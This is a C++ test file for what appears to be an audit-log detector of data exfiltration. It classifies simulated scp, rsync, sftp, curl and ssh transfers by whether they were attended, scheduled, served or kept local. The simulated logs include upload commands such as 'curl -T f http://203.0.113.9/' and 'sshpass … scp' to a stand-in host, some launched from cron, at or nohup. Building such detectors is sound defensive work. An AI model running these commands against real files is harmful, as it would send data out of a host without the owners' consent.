#include "host_with_cron.hpp"

/// Traps 39 to 50 of transfer-tools §5: who started it, who serves, what stays on the host.
namespace auexfil::test {

TEST_CASE("trap 39: a terminal does not make it attended") {
  CronHost log;
  const int pass = log.tool("/usr/bin/sshpass", {"sshpass", "-p", "x", "scp", "f", "203.0.113.9:"});
  log.fork(pass, 1900);
  log.who(1900).tty = "pts3";
  log.exec(1900, "/usr/bin/scp", {"scp", "f", "203.0.113.9:"});
  const int ssh = log.ssh_child(1900, CronHost::sftp_argv("203.0.113.9"), kDrop);
  log.upload(ssh, 3, 100'000);
  log.done(ssh);
  CHECK(sign_of(one(log)) == "unattended cron");
}

TEST_CASE("trap 39: an auid does not make it attended") {
  CronHost log;
  const int curl = log.tool("/usr/bin/curl", {"curl", "-T", "f", "http://203.0.113.9/"}, 1000);
  log.tcp(curl, 3, kDrop, 80);
  log.send(curl, 3, 150);
  log.done(curl);
  const auto fact = one(log);
  CHECK(fact.auid == 1000U);
  CHECK(sign_of(fact) == "unattended cron");
}

TEST_CASE("trap 40: sudo moves a person's command to another terminal") {
  CronHost log;
  const int shell = log.person(CronHost::kSshd, 500, 5, 1000, "pts2");
  const int sudo = log.run(shell, 510, "/usr/bin/sudo", {"sudo", "scp", "f", "203.0.113.9:"});
  log.fork(sudo, 511);
  log.setsid(511);
  log.who(511).tty = "pts3";
  log.fork(511, 512);
  log.who(512).uid = 0;
  log.exec(512, "/usr/bin/scp", {"scp", "f", "203.0.113.9:"});
  const int ssh = log.ssh_child(512, CronHost::sftp_argv("203.0.113.9"), kDrop);
  log.upload(ssh, 3, 100'000);
  log.done(ssh);
  const auto fact = one(log);
  CHECK(sign_of(fact) == "attended interactive-shell");
  CHECK(fact.uid == 0U);
  CHECK(fact.auid == 1000U);
}

TEST_CASE("trap 41: an at job is a shell without arguments, its script on standard input") {
  CronHost log;
  const int atd = log.daemon(320, "/usr/sbin/atd");
  log.fork(atd, 600);
  log.login(600, 1000, 8);
  log.fork(600, 601);
  log.who(601).uid = 1000;
  log.exec(601, "/usr/bin/dash", {"sh"});
  const int curl = log.run(601, 602, "/usr/bin/curl", {"curl", "-T", "f", "http://203.0.113.9/"});
  log.tcp(curl, 3, kDrop, 80);
  log.send(curl, 3, 150);
  log.done(curl);
  const auto fact = one(log);
  CHECK(sign_of(fact) == "unattended at");
  REQUIRE(fact.job);
  CHECK(fact.job->kind == "at");
}

TEST_CASE("trap 42: anacron keeps the session of whoever started it") {
  CronHost log;
  const int shell = log.person(CronHost::kSshd, 500, 5);
  const int anacron = log.run(shell, 510, "/usr/sbin/anacron", {"anacron", "-f"});
  log.fork(anacron, 511);
  log.exit(anacron);
  log.who(511).ppid = 1;
  log.fork(511, 512);
  log.exec(512, "/usr/bin/dash", {"/bin/sh", "-c", "/etc/backup"});
  const int curl = log.run(512, 513, "/usr/bin/curl", {"curl", "-T", "f", "http://203.0.113.9/"});
  log.tcp(curl, 3, kDrop, 80);
  log.send(curl, 3, 150);
  log.done(curl);
  CHECK(sign_of(one(log)) == "unattended anacron");
}

TEST_CASE("trap 42: nohup keeps the session of a person who has gone") {
  CronHost log;
  const int shell = log.person(CronHost::kSshd, 500, 5);
  log.fork(shell, 510);
  log.exec(510, "/usr/bin/nohup", {"nohup", "curl", "-T", "f", "http://203.0.113.9/"});
  log.exit(shell);
  log.user("USER_END", 500, "PAM:session_close", "ssh");
  log.who(510).ppid = 1;
  log.who(510).tty = "(none)";
  log.pass(60'000);
  log.exec(510, "/usr/bin/curl", {"curl", "-T", "f", "http://203.0.113.9/"});
  log.tcp(510, 3, kDrop, 80);
  log.send(510, 3, 150);
  log.done(510);
  CHECK(sign_of(one(log)) == "unattended left-behind");
}

TEST_CASE("trap 43: sftp -b, ftp -n, lftp -f, curl -K: only the bytes tell") {
  const auto argv =
      GENERATE(values<std::vector<std::string>>({{"/usr/bin/sftp", "-b", "-", "203.0.113.9"},
                                                 {"/usr/bin/ftp", "-n", "203.0.113.9"},
                                                 {"/usr/bin/lftp", "-f", "/root/script"},
                                                 {"/usr/bin/curl", "-sS", "-K", "-"},
                                                 {"/usr/bin/psftp", "-b", "F", "u@203.0.113.9"}}));
  CAPTURE(argv[0]);
  CronHost log;
  const int pid = log.tool(argv[0], argv);
  log.tcp(pid, 3, kDrop, 21);
  log.write(pid, 3, 30);
  log.tcp(pid, 4, kDrop, 40000);
  log.write(pid, 4, 100'000);
  log.close(pid, 4);
  log.done(pid);
  CHECK(sum(one(log)) == "out 100030 measured");
}

/// A peer comes in over ssh and runs `command`; sshd's user child sends so much.
CronHost served(const std::vector<std::string>& command, std::int64_t bytes) {
  CronHost log;
  const int sshd = CronHost::kSshd;
  log.socket(sshd, 3);
  log.bind(sshd, 3, "0.0.0.0", 22);
  log.listen(sshd, 3);
  log.accept(sshd, 3, 4, kDrop, 50022);
  const int child = log.ssh_login(sshd, 700, 701, 9, 1000, "", kDrop);
  log.close(sshd, 4);
  log.write(700, 4, 41);
  const int shell = log.run(child, 702, "/usr/bin/bash", {"bash", "-c", command.front()});
  log.exec(shell, "/usr/bin/" + command.front(), command);
  log.write(shell, 1, bytes);
  for (std::int64_t left = bytes; left > 0; left -= 32804) {
    log.write(child, 4, std::min<std::int64_t>(left, 32804));
  }
  log.exit(shell);
  log.done(child, 4);
  log.done(700, 4);
  return log;
}

TEST_CASE("trap 44: rsync --server --sender here serves a peer's pull") {
  const auto fact = one(served({"rsync", "--server", "--sender", "-logDtpr", ".", "d"}, 900'000));
  CHECK(fact.side == transfer::Side::server);
  CHECK(fact.direction == transfer::Direction::out);
  CHECK(fact.bytes_out == 900'041U);
}

TEST_CASE("trap 45: served bytes are sshd's, sftp-server has pipes only") {
  const auto fact = one(served({"sftp-server"}, 900'000));
  CHECK(fact.tool == "sshd");
  CHECK(fact.side == transfer::Side::server);
  CHECK(fact.destinations[0].source == transfer::Source::accept);
}

TEST_CASE("trap 46: --sender in the child's arguments is the far side's role: a download") {
  CronHost log;
  const int rsync = log.tool("/usr/bin/rsync", {"rsync", "-a", "203.0.113.9:d", "/srv"});
  const int ssh = log.ssh_child(
      rsync, {"ssh", "203.0.113.9", "rsync", "--server", "--sender", "-logDtpre.iLsf", ".", "d"},
      kDrop);
  log.upload(ssh, 3, 5800, 120);
  log.done(ssh);
  const auto fact = one(log);
  CHECK(fact.direction != transfer::Direction::out);
  const int renamed = 5000;
  CronHost other;
  other.there(renamed, 1, "/opt/x/mirror");
  const int child = other.ssh_child(
      renamed, {"ssh", "203.0.113.9", "rsync", "--server", "--sender", "-logDtpre.iLsf", ".", "d"},
      kDrop);
  other.upload(child, 3, 25'800, 120);
  other.done(child);
  CHECK(one(other).direction == transfer::Direction::in);
}

TEST_CASE("trap 47: what was read from files is not what was sent") {
  CronHost log;
  const int rsync = log.tool("/usr/bin/rsync", {"rsync", "-I", "big", "203.0.113.9:d"});
  const int ssh = log.ssh_child(
      rsync, {"ssh", "203.0.113.9", "rsync", "--server", "-logDtpre.iLsf", ".", "d"}, kDrop);
  for (int i = 0; i < 32; ++i) {
    log.read(rsync, 3, 262'144);
  }
  log.upload(ssh, 3, 15'657, 2000);
  log.done(ssh);
  CHECK(one(log).bytes_out == 15'657U);
}

TEST_CASE("trap 48: scp -R moves files between others, a few KB from here") {
  CronHost log;
  const int scp = log.tool("/usr/bin/scp", {"scp", "-R", "198.51.100.7:f", "203.0.113.9:p"});
  const int ssh =
      log.ssh_child(scp, {"ssh", "-x", "-n", "--", "198.51.100.7", "scp f 203.0.113.9:p"}, kOther);
  log.upload(ssh, 3, 3700, 200);
  log.done(ssh);
  const auto fact = one(log);
  CHECK(fact.destinations.size() == 1);
  CHECK(fact.direction != transfer::Direction::out);
  CHECK(fact.bytes_out == 3700U);
}

TEST_CASE("trap 49: scp -3 takes from one and gives to the other") {
  const bool reads = GENERATE(true, false);
  CAPTURE(reads);
  CronHost log;
  if (!reads) {
    log.audited = all_but({"read"});
  }
  const int scp = log.tool("/usr/bin/scp", {"scp", "-3", "198.51.100.7:f", "203.0.113.9:p"});
  const int to_ssh = log.run(scp, scp + 1, "/usr/bin/ssh", CronHost::sftp_argv("203.0.113.9"));
  log.tcp(to_ssh, 3, kDrop, 22);
  const int from_ssh = log.run(scp, scp + 2, "/usr/bin/ssh", CronHost::sftp_argv("198.51.100.7"));
  log.tcp(from_ssh, 3, kOther, 22);
  for (int i = 0; i < 40; ++i) {
    log.write(from_ssh, 3, 100);
    log.read(from_ssh, 3, 32768);
    log.write(to_ssh, 3, 32804);
    log.read(to_ssh, 3, 40);
  }
  log.write(to_ssh, 3, 41);
  log.done(to_ssh);
  log.done(from_ssh);
  const auto fact = one(log);
  CHECK(fact.tool == "scp");
  REQUIRE(fact.destinations.size() == 2);
  CHECK(to_word(destination(fact, kDrop)->direction) == std::string("out"));
  CHECK(to_word(destination(fact, kOther)->direction) == std::string("in"));
  CHECK(fact.direction == transfer::Direction::both);
  CHECK(destination(fact, kDrop)->bytes_out == 40U * 32804U + 41U);
}

TEST_CASE("trap 50: what stays on the host is no transfer") {
  CronHost log;
  const int rsync = log.tool("/usr/bin/rsync", {"rsync", "-a", "a/", "b/"});
  log.call(rsync, "socketpair", 0, {1, 1, 0, 0}, {"FD_PAIR fd0=3 fd1=4"});
  log.write(rsync, 4, 8'390'000);
  log.exit(rsync);
  for (const char* address : {"127.0.0.1", "127.3.2.1", "::1", "::ffff:127.0.0.1"}) {
    const int ssh = log.tool("/usr/bin/ssh", {"ssh", "localhost", "cat > f"});
    log.tcp(ssh, 3, address, 22);
    log.upload(ssh, 3, 100'000);
    log.done(ssh);
  }
  CHECK(tell(log).empty());
}

}  // namespace auexfil::test
